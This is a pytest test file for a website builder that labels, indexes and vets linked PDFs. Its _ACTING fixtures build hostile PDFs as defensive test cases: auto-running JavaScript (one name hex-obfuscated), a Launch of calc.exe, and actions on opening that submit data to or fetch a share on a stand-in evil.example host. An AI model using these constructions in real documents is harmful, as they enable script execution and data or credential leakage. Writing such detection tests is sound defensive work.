"""Documents: what a reader is told before opening one, what an editor is asked, and what is refused."""

import io
import random
from collections.abc import Callable
from pathlib import Path
from string import ascii_lowercase
from typing import Any

import pytest
from helpers import build_here, diagnostics
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, TextStringObject
from selectolax.lexbor import LexborHTMLParser
from website.documents import check
from website.documents.pdf import Pdf, read
from website.documents.transform import indexed_documents


def raw(value: Any) -> Any:
    """Return a PDF object of plain values: a name begins with a slash."""
    if isinstance(value, dict):
        return DictionaryObject({NameObject(name): raw(one) for name, one in value.items()})
    if isinstance(value, list):
        return ArrayObject(map(raw, value))
    if hasattr(value, "get_object"):
        return value
    return NameObject(value) if str(value).startswith("/") else TextStringObject(value)


def pdf(
    pages: int = 4,
    title: str = "Scheme of delegation",
    has_text: bool = True,
    change: Callable[[PdfWriter], object] = lambda writer: None,
    **root: Any,
) -> bytes:
    """Return a PDF as Word makes it, with more entries in its catalogue, and then changed."""
    writer = PdfWriter()
    font = {"/Font": {"/F1": {"/Type": "/Font", "/Subtype": "/Type1", "/BaseFont": "/Helvetica"}}}
    for _ in range(pages):
        page = writer.add_blank_page(595, 842)
        if has_text:
            text = DecodedStreamObject()
            text.set_data(b"BT /F1 12 Tf 72 700 Td (The board delegates this.) Tj ET")
            page[NameObject("/Contents")] = writer._add_object(text)
            page[NameObject("/Resources")] = raw(font)
    writer.add_metadata({"/Title": title} if title else {})
    tags = {"MarkInfo": {"/Marked": "/true"}, "StructTreeRoot": {"/Type": "/StructTreeRoot"}}
    for name, value in {"Lang": "en-GB", **tags, **root}.items():
        if value:
            writer.root_object[NameObject(f"/{name}")] = raw(value)
    change(writer)
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def note(**entries: Any) -> bytes:
    """Return a PDF with an annotation on its second page."""

    def add(writer: PdfWriter) -> None:
        one = writer._add_object(raw({"/Type": "/Annot", **{f"/{name}": value for name, value in entries.items()}}))
        writer.pages[1][NameObject("/Annots")] = ArrayObject([one])

    return pdf(change=add)


def page_with(project: Path, text: str, files: dict[str, bytes]) -> Path:
    """Add text and documents to the small site."""
    for name, content in files.items():
        file = project / "docs" / "documents" / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(content)
    page = project / "docs" / "page.md"
    page.write_text(f"{page.read_text('utf-8').rstrip()}\n\n{text}\n", "utf-8")
    return project


PDF = pdf()
_KB = round(len(PDF) / 1000)


# ---- What a reader gets ------------------------------------------------------------------------------


def test_a_link_to_a_document_says_what_it_opens(project: Path):
    """Kind, size, pages and language after its text, whatever an editor typed there."""
    typed = {
        "[who may decide what](documents/scheme.pdf)": f"who may decide what (PDF, {_KB} KB, 4 pages)",
        "[The *scheme* (pdf, 9 MB)](documents/scheme.pdf#page=2)": f"The scheme (PDF, {_KB} KB, 4 pages)",
        "[The scheme (old)](documents/2024/scheme.pdf)": f"The scheme (old) (PDF, {_KB} KB, 4 pages)",
        "[Fees](documents/fees.pdf)": f"Fees (PDF, {round(len(pdf(1, Lang='pl')) / 1000)} KB, 1 page, Polish)",
    }
    files = {"scheme.pdf": PDF, "2024/scheme.pdf": PDF, "fees.pdf": pdf(1, "Fees", Lang="pl")}
    code, printed = build_here(page_with(project, "\n\n".join(typed), files))
    assert (code, diagnostics(printed)) == (0, [])
    page = LexborHTMLParser((project / "site" / "page" / "index.html").read_text("utf-8"))
    links = page.css('main a[href*="documents/"]')
    assert [link.text() for link in links] == list(typed.values())
    assert links[3].attributes["hreflang"] == "pl"
    assert (project / "site" / "documents" / "scheme.pdf").read_bytes() == PDF
    assert '"documents/scheme.pdf","Scheme of delegation"' in (project / "site/assets/search.json").read_text("utf-8")


@pytest.mark.parametrize(
    ("size", "pages", "language", "label"),
    [(1, 1, "en", "PDF, 1 KB, 1 page"), (994_999, 1200, "", "PDF, 995 KB, 1,200 pages"),
     (995_000, 0, "tet", "PDF, 1.0 MB, language: tet")],
)  # fmt: skip
def test_what_a_document_is_is_told_as_people_say_it(size: int, pages: int, language: str, label: str):
    """In thousands and millions of bytes; the language if it is another."""
    assert Pdf("documents/a.pdf", size, pages=pages, language=language).label == label


def test_what_search_knows_of_documents():
    """Title, address and kind; what cannot be read is left out."""
    documents = [
        Pdf("documents/accounts.pdf", 8_000, pages=2, title="Accounts"),
        Pdf("documents/fee-list.pdf", 8_000, pages=1),
        Pdf("documents/plan.pdf", 8_000, pages=1),
        Pdf("documents/bad.pdf", 8_000),
    ]
    entries = indexed_documents({one.path: one for one in documents}, {"documents/plan.pdf": "Our plan"})
    assert [(one.title, one.url, one.description) for one in entries] == [
        ("Accounts", "documents/accounts.pdf", "PDF, 8 KB, 2 pages"),
        ("Fee list", "documents/fee-list.pdf", "PDF, 8 KB, 1 page"),
        ("Our plan", "documents/plan.pdf", "PDF, 8 KB, 1 page"),
    ]


# ---- What is refused, and what is asked ----------------------------------------------------------------


def _script(**more: Any) -> dict[str, Any]:
    return {"/S": "/JavaScript", "/JS": "app.alert('hello')", **more}


def _locked(writer: PdfWriter) -> None:
    writer.encrypt("", "owner", algorithm="RC4-128")


_ACTING = {
    "script on opening": pdf(OpenAction=_script()),
    "script among the names": pdf(Names={"/JavaScript": {"/Names": ["a", _script()]}}),
    "script of a bookmark": pdf(Outlines={"/First": {"/Title": "Part", "/A": _script()}}),
    "script in an address": note(Subtype="/Link", A={"/S": "/URI", "/URI": "javascript:alert(1)"}),
    "script by another name": PDF + b"9 0 obj <</S /Java#53cript /J#53 (alert)>> endobj",
    "a program": pdf(Outlines={"/A": {"/S": "/Launch", "/F": "calc.exe"}}),
    "a form of code": pdf(AcroForm={"/XFA": "x"}),
    "sends on opening": pdf(OpenAction={"/S": "/SubmitForm", "/F": "https://evil.example/"}),
    "another host's file": pdf(OpenAction={"/S": "/GoToR", "/F": r"\\evil.example\share\x.pdf"}),
    "an address on opening": pdf(OpenAction={"/S": "/URI", "/URI": "https://evil.example/"}),
    "a file": pdf(change=lambda writer: writer.add_attachment("figures.csv", b"1,2")),
}
_LEFT = {
    'has a comment on page 2: "Do not publish"': note(Subtype="/Text", T="Jane Smith", Contents="Do not publish"),
    "has a redaction on page 2 that was not applied": note(Subtype="/Redact"),
    'has an answer in a form on page 2: "Jane Smith"': note(Subtype="/Widget", FT="/Tx", T="Name", V="Jane Smith"),
}
_SOUND = {
    "goes to a page on opening": pdf(OpenAction={"/S": "/GoTo", "/D": [0, "/Fit"]}),
    "a link with words for the ear": note(Subtype="/Link", Contents="Our plan", A={"/S": "/URI", "/URI": "https://a.b/"}),
    "an empty form": note(Subtype="/Widget", FT="/Tx", T="Name"),
    "a form with its own answer": note(Subtype="/Widget", FT="/Ch", V="Choose", DV="Choose"),
    "words": pdf(title="JavaScript, Launch and XFA"),
}  # fmt: skip


@pytest.mark.parametrize("case", _ACTING)
def test_a_document_that_acts_or_carries_is_known(case: str):
    """Wherever in the file it stands, and by whichever name."""
    assert read("documents/a.pdf", _ACTING[case]).acts


@pytest.mark.parametrize("case", _SOUND)
def test_a_document_that_almost_acts_is_sound(case: str):
    """Going to a page is what a PDF is for; a form waits for its reader."""
    one = read("documents/a.pdf", _SOUND[case])
    assert (one.pages, one.acts, one.asked, one.is_tagged) == (4, frozenset(), (), True)


def test_what_is_refused_and_asked_of_documents(project: Path):
    """Refused at the file, in words; asked at the link, where an allowance answers."""
    refused = {
        "acts.pdf": (
            _ACTING["script on opening"],
            "This PDF acts by itself, or carries files: JavaScript, OpenAction.",
            "document-runs",
        ),
        "cut.pdf": (PDF[: len(PDF) // 3], "it is damaged, was cut short on its way, or is none", "document-broken"),
        "photo.pdf": (b"\xff\xd8\xff\xe0 a photo", "or is none", "document-broken"),
        "empty.pdf": (b"", "or is none", "document-broken"),
        "form.odt": (b"PK\x03\x04", "Save it as PDF (in Word: File, Save As, PDF", "document-broken"),
        "Our Scheme.pdf": (PDF, 'the name "our-scheme.pdf", and upload it again', "document-name"),
    }
    asked = {
        "scan.pdf": (pdf(has_text=False), "has no text in it, as a scan has none", "document-scan"),
        "locked.pdf": (pdf(change=_locked), "is locked: it asks for a password", "document-locked"),
        **{f"left-{n}.pdf": (content, words, "document-remains") for n, (words, content) in enumerate(_LEFT.items())},
    }
    files = {name: content for name, (content, *_) in {**refused, **asked}.items()}
    links = {
        name: f"[The paper {letter}](<documents/{name}>)" for letter, name in zip(ascii_lowercase, files, strict=False)
    }
    lines = diagnostics(build_here(page_with(project, "\n\n".join(links.values()), files))[1])
    for name, (_, words, id_) in refused.items():
        told = [line for line in lines if line.startswith(f"docs/documents/{name}:1: ")]
        assert [line for line in told if words in line and line.endswith(f"[{id_}]")], told
    page = project / "docs" / "page.md"
    at = page.read_text("utf-8").split("\n")
    for name, (_, words, id_) in asked.items():
        start = f'docs/page.md:{at.index(links[name]) + 1}: Question: The PDF "{name}" '
        (line,) = [line for line in lines if line.startswith(start)]
        assert words in line
        assert line.endswith(f"[{id_}]")
        (project / "docs" / "documents" / name).unlink()
    (project / "docs" / "documents" / "scan.pdf").write_bytes(files["scan.pdf"])
    for name in refused:
        (project / "docs" / "documents" / name).unlink()
    allowance = f"{links['scan.pdf']} <!-- allow: document-scan because the council sends it so -->"
    page.write_text(page.read_text("utf-8").partition(links["acts.pdf"])[0] + allowance + "\n", "utf-8")
    code, printed = build_here(project)
    assert (code, diagnostics(printed)) == (0, [])


def test_what_is_advised_of_documents(project: Path):
    """What a document does not tell of itself, and one that nobody links to, are published."""
    files = {"key-stage-2.pdf": PDF, "plan.pdf": pdf(title="", Lang="", MarkInfo={})}
    code, printed = build_here(page_with(project, "[The plan](documents/plan.pdf#page=2)", files))
    assert code == 0, diagnostics(printed)
    assert [line.partition(". ")[0] + line[line.rindex(" [") :] for line in diagnostics(printed)] == [
        "docs/documents/key-stage-2.pdf:1: Advice: No page links to this document [document-unused]",
        "docs/documents/plan.pdf:1: Advice: This PDF has no title, no language, no tags for its headings "
        "[document-lacks]",
    ]


def test_no_damage_stops_the_reading():
    """Whatever bytes are turned or cut, a document is read or is not."""
    numbers, whole = random.Random(1), _ACTING["script in an address"]  # noqa: S311 (damage, no secret)
    for _ in range(300):
        content = bytearray(whole)
        for _ in range(numbers.randrange(1, 9)):
            content[numbers.randrange(len(content))] = numbers.randrange(256)
        assert read("documents/a.pdf", bytes(content[: numbers.randrange(len(content)) or None])).size


def test_each_check_of_documents_fails_somewhere_here():
    """Every id stands in a case above: a check that nothing fails is a fault."""
    text = Path(__file__).read_text("utf-8")
    assert [id_ for id_ in check.RULES if f'"{id_}"' not in text and f"{id_}]" not in text] == []
